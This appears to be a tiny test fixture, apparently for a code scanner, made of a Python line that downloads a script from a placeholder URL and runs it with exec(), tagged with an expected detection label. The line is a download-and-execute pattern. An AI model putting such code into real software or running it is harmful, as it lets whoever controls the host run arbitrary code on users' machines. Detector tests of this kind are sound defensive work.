import requests
exec(requests.get('https://example.org/x.py', timeout=9).text)  # expect: CUP-CODE-EXEC-FILE-DOWNLOADED
